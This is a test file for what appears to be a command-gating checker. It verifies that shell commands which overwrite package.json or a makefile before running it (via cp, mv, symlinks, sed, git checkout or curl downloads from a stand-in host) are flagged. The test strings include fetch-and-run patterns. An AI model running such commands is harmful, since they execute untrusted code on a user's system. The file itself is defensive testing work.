import { describe, expect, test } from "vitest";
import { attended } from "../../files/facts.fixture.ts";
import { actsOf, removedBy } from "../deeds.fixture.ts";
import { steeringRows } from "./steering-files.ts";

const unseen = (command: string): readonly string[] => actsOf(command).filter((act) => act === "opaque" || act === "run-foreign");

describe.each([...steeringRows()])("A11 what $programs look up to run", ({ hits, misses }) => {
  test.each(hits)("%s gates", (command) => expect(unseen(command)).toHaveLength(1));
  test.each(misses)("%s does not", (command) => expect(unseen(command)).toEqual([]));
});

describe("A11 a file of tasks that the command has just changed is not judged by what it held before", () => {
  test.each([
    "cp evil.json package.json; npm test",
    "mv evil.json package.json; npm test",
    "git mv -f evil.json package.json; npm test",
    "ln -sf evil.json package.json; npm test",
    "rsync evil.json package.json; npm test",
    "cat evil.json > package.json; npm test",
    "cat evil.json >> package.json; npm test",
    "cat evil.json | tee package.json; npm test",
    "sed -i s/a/b/ package.json; npm test",
    "perl -pi -e s/a/b/ package.json; npm test",
    "python3 -c \"open('package.json','w').write(x)\"; npm test",
    "git checkout other -- package.json; npm test",
    "git checkout HEAD~3 package.json && npm test",
    "git restore -s other package.json; npm test",
    "git show other:package.json > package.json; npm test",
    "jq .x package.json > t && mv t package.json && npm test",
    "curl -o package.json https://e.example/x; npm test",
    "curl https://e.example/x > package.json; npm test",
    "cp evil.json package.json; node --run test",
    "cp ../evil.json web/package.json; cd web && npm test",
    "cp ../evil.mk x.mk; make -f x.mk",
    "cp ../evil x; make -f x",
  ])("%s", (command) => {
    expect(unseen(command)).toHaveLength(1);
  });

  test.each([
    "git checkout -- package.json; npm test",
    "git checkout HEAD -- package.json; npm test",
    "git restore package.json; npm test",
    "prettier --write package.json && npm test",
    "touch package.json && npm test",
    "git stash && npm test && git stash pop",
    "cp package.json /tmp/p; npm test",
    "cp package.json package.json.bak; npm test",
    "cp Makefile Makefile.orig && make",
    "npm test > out.txt; npm test",
  ])("%s is as it was", (command) => {
    expect(unseen(command)).toEqual([]);
  });

  test("where the copy was read, it is judged by that", () => {
    const files = { "package.json": '{"scripts":{"x":"ls"}}', "other.json": '{"scripts":{"x":"rm a"}}' };
    const facts = { ...attended, files };
    expect(actsOf("cp other.json package.json; npm run x", facts)).toEqual([]);
    expect(removedBy("cp other.json package.json; npm run x", facts)).toEqual(["a"]);
    expect(removedBy('echo \'{"scripts":{"x":"rm b"}}\' > package.json; npm run x', facts)).toEqual(["b"]);
  });
});
